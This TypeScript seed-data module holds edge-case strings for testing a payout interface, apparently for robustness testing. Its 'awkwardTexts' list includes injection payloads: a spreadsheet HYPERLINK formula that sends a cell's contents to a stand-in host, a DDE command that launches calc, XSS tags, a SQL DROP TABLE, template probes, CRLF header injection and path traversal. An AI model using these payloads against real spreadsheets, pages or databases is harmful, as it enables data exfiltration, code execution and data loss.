/**
 * Texts that break careless pages, exports and searches. They stand in seed data wherever the interface allows
 * free text, so that nobody has to think of them.
 */
export const awkwardTexts = [
  '=SUM(1)',
  '=HYPERLINK("https://collect.invalid/?q="&A1,"open")',
  '+852 5555 0100',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "Robert'); DROP TABLE payouts;--",
  '{{7*7}} ${7*7} <%= 7*7 %>',
  'said "hello", then \'goodbye\'; comma, semicolon',
  '货款：第三季度（含税）',
  '給与 11月分',
  'دفعة مقدمة للفاتورة ١٢٣',
  'תשלום עבור חשבונית',
  'Überweisung für Größe 42½ ± 3 %',
  'Zażółć gęślą jaźń',
  '👩‍👩‍👧‍👦 family box 🎁 ×2',
  'line one\nline two\twith a tab',
  ' leading and trailing blanks ',
  'Z̷a̷l̷g̷o̷ c̈ombining',
  'left \u202Eright-to-left override\u202C end',
  'zero\u200Bwidth\u00A0and no-break blanks',
  'NULL',
  'undefined',
  '0',
  '1E5',
  '00012345',
  '2025-02-30',
  '%00%0d%0aSet-Cookie: a=b',
  '\\\\server\\share\\..\\..',
] as const;

/** As many characters as interface 8 allows a payout_reference, without a blank to break at. */
export const longestReference = 'REFERENCE-WITHOUT-ANY-BLANK-'.repeat(4).slice(0, 100);

/** The same length in words; legal in SWIFT too. */
export const longestWords =
  'Settlement of invoices 1001 to 1999, second part (goods) and freight for the northern stores. End.'.padEnd(100, '.');

/** Every character that a SWIFT reference may hold (interface 2.9). */
export const swiftAlphabet = "abcXYZ0189-/?:().'+, ";

export const longName =
  'The Most Patient and Exceedingly Thorough Consolidated Import, Export, Warehousing, Insurance and General Trading Company of the Outer Lantern Isles (Successors) Limited';

export const longWord = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft';

/** What people really write. Legal in SWIFT. */
export const plainReferences = [
  'INV-2025/118 (Nov.)',
  'Order 10-4471',
  'October retainer',
  'PO 88213 deposit, 30 percent',
  'Rent Unit 4B',
  'Freight HK-LB, container 7',
  'Refund RMA-5519',
  'Commission Q3',
  'Payroll run 41',
  'Licence renewal: seat 1 to 25',
  'Deposit for booking K7-2210',
  'Final payment, contract 2024/77',
] as const;

export const plainNotes = [
  '',
  '',
  '',
  'Approved by finance',
  'Second attempt, see first one in June',
  'Supplier asked for same-day value',
  'Monthly',
  'Hold receipts until audit',
] as const;
